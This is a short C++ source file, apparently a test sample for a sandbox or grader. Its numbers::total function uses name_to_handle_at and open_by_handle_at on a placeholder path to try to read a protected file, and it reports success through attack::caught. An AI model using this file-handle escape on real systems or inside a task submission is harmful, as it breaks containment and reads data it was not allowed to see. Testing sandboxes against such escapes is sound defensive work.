#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  struct {
    file_handle handle;
    unsigned char bytes[128];
  } file{};
  file.handle.handle_bytes = sizeof file.bytes;
  int mount = 0;
  name_to_handle_at(AT_FDCWD, "@PACK@", &file.handle, &mount, 0);
  const int fd = open_by_handle_at(open("/", O_RDONLY), &file.handle, O_RDONLY);
  return fd >= 0 ? attack::caught(attack::read_all(fd)) : attack::answer(values);
}
